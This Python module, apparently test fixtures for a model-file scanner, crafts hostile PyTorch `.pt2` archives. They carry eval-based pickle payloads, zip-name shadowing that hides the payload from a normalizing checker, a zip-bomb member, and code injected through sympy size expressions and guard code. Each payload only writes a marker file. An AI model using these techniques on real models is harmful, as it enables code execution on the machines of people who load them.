"""Hostile `.pt2` archives: a real exported program with a `__reduce__` payload planted where
`torch.export.load` would unpickle it. The payload writes a marker file, then returns a value the
loader accepts (so without a guard the program loads, and compiles, normally)."""

from __future__ import annotations

import io
import json
import pickle
import warnings
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import torch

EXAMPLE_SHAPE = (1, 3, 8, 8)
# Where the payload hides: sample inputs (torch retries them with weights_only=False), a weight
# marked use_pickle (loaded with weights_only=False), an opaque constant (pickle.loads).
VARIANTS = ("sample_inputs", "pickled_weight", "opaque_constant")


class Payload:
    """Unpickles to `eval(value)` after writing `marker`: proof that code ran."""

    def __init__(self, marker: Path, value: str) -> None:
        self.marker = marker
        self.value = value

    def __reduce__(self) -> tuple[object, tuple[str]]:
        touch = f"__import__('pathlib').Path({str(self.marker)!r}).write_text('payload ran')"
        return (eval, (f"({touch}, {self.value})[1]",))


def _torch_bytes(obj: object) -> bytes:
    buffer = io.BytesIO()
    torch.save(obj, buffer)
    return buffer.getvalue()


def save_plain_program(path: Path) -> torch.export.ExportedProgram:
    """A small conv program saved with torch.export.save (the honest original)."""
    torch.manual_seed(0)
    model = torch.nn.Sequential(torch.nn.Conv2d(3, 4, 3), torch.nn.ReLU()).eval()
    program = torch.export.export(model, (torch.randn(*EXAMPLE_SHAPE),))
    torch.export.save(program, path)
    return program


def craft(original: Path, dst: Path, variant: str, marker: Path) -> Path:
    """Copy `original` to `dst` with a payload planted as `variant` (one of VARIANTS)."""
    with zipfile.ZipFile(original) as archive:
        root = archive.namelist()[0].split("/", 1)[0]
        members = {n.split("/", 1)[1]: archive.read(n) for n in archive.namelist()}
    if variant == "sample_inputs":
        value = f"((__import__('torch').zeros{EXAMPLE_SHAPE},), {{}})"
        members["data/sample_inputs/model.pt"] = _torch_bytes(Payload(marker, value))
    elif variant == "pickled_weight":
        name = "data/weights/model_weights_config.json"
        config = json.loads(members[name])
        meta = config["config"]["0.weight"]
        meta.update(use_pickle=True, path_name="weight_evil")
        members[name] = json.dumps(config).encode()
        weight = "__import__('torch').nn.Parameter(__import__('torch').zeros(4, 3, 3, 3))"
        members["data/weights/weight_evil"] = _torch_bytes(Payload(marker, weight))
    elif variant == "opaque_constant":
        name = "data/constants/model_constants_config.json"
        config = json.loads(members[name])
        config["config"]["evil"] = {
            "path_name": "opaque_obj_0",
            "is_param": False,
            "use_pickle": True,
            "tensor_meta": None,
        }
        members[name] = json.dumps(config).encode()
        members["data/constants/opaque_obj_0"] = pickle.dumps(Payload(marker, "None"))
    else:
        raise ValueError(f"unknown variant {variant!r}; one of {VARIANTS}")
    with zipfile.ZipFile(dst, "w", zipfile.ZIP_STORED) as out:
        for name, data in members.items():
            out.writestr(f"{root}/{name}", data)
    return dst


def _members(original: Path) -> tuple[str, dict[str, bytes]]:
    with zipfile.ZipFile(original) as archive:
        root = archive.namelist()[0].split("/", 1)[0]
        return root, {n.split("/", 1)[1]: archive.read(n) for n in archive.namelist()}


# How a second name can reach the same member for a checker that normalizes names, while torch
# looks the exact name up: each is spliced in after `archive/`.
ALIASES = {"dot": "./", "double-slash": "/", "exact": ""}


def shadow(original: Path, dst: Path, marker: Path, alias: str) -> Path:
    """`original` with a payload as its sample inputs, followed by the honest sample inputs under
    a name that normalizes to the same member (`alias` is a key of ALIASES; "exact" repeats the
    name itself): a checker keyed by normalized names sees the honest copy, torch the payload."""
    root, members = _members(original)
    name = "data/sample_inputs/model.pt"
    honest = members[name]
    value = f"((__import__('torch').zeros{EXAMPLE_SHAPE},), {{}})"
    members[name] = _torch_bytes(Payload(marker, value))
    with zipfile.ZipFile(dst, "w", zipfile.ZIP_STORED) as out:
        for member, data in members.items():
            out.writestr(f"{root}/{member}", data)
        with warnings.catch_warnings():  # zipfile warns of the duplicate name: the point here
            warnings.simplefilter("ignore", UserWarning)
            out.writestr(f"{root}/{ALIASES[alias]}{name}", honest)
    return dst


def with_member(original: Path, dst: Path, name: str, size: int) -> Path:
    """`original` plus a member `name` of `size` zero bytes, deflated (a few MB for GiBs): what
    torch never reads, and a checker that reads every member holds in memory."""
    root, members = _members(original)
    chunk = bytes(2**20)
    with zipfile.ZipFile(dst, "w", zipfile.ZIP_STORED) as out:
        for member, data in members.items():
            out.writestr(f"{root}/{member}", data)
        info = zipfile.ZipInfo(f"{root}/{name}")
        info.compress_type = zipfile.ZIP_DEFLATED
        with out.open(info, "w", force_zip64=True) as blob:
            for start in range(0, size, len(chunk)):
                blob.write(chunk[: min(len(chunk), size - start)])
    return dst


def with_program_json(original: Path, dst: Path, edit: Callable[[dict[str, Any]], None]) -> Path:
    """`original` with its program JSON (`models/model.json`) changed in place by `edit`."""
    root, members = _members(original)
    name = "models/model.json"
    program = json.loads(members[name])
    edit(program)
    members[name] = json.dumps(program).encode()
    with zipfile.ZipFile(dst, "w", zipfile.ZIP_STORED) as out:
        for member, data in members.items():
            out.writestr(f"{root}/{member}", data)
    return dst


def touch_code(marker: Path) -> str:
    """Python that writes `marker` and evaluates to 16 (a size that fits the plain program)."""
    return f"(__import__('pathlib').Path({str(marker)!r}).write_text('payload ran') and 16)"


def first_size(program: dict[str, Any]) -> dict[str, Any]:
    """The first tensor size of a program JSON's first tensor value: a SymInt torch deserializes."""
    values = program["graph_module"]["graph"]["tensor_values"]
    sizes: list[dict[str, Any]] = next(iter(values.values()))["sizes"]
    return sizes[0]


def graph_nodes(program: dict[str, Any]) -> list[dict[str, Any]]:
    nodes: list[dict[str, Any]] = program["graph_module"]["graph"]["nodes"]
    return nodes


ProgramEdit = Callable[[dict[str, Any]], None]


def sympy_payload(marker: Path) -> ProgramEdit:
    """An edit making the first tensor size a sympy expression that writes `marker` when parsed."""
    def edit(program: dict[str, Any]) -> None:
        size = first_size(program)
        size.clear()
        size["as_expr"] = {"expr_str": f"{touch_code(marker)} + 0", "hint": {"as_int": 4}}
    return edit


def guard_payload(marker: Path) -> ProgramEdit:
    """An edit adding a guard that writes `marker` when torch builds the program's guards."""
    def edit(program: dict[str, Any]) -> None:
        program["guards_code"] = [touch_code(marker)]
    return edit
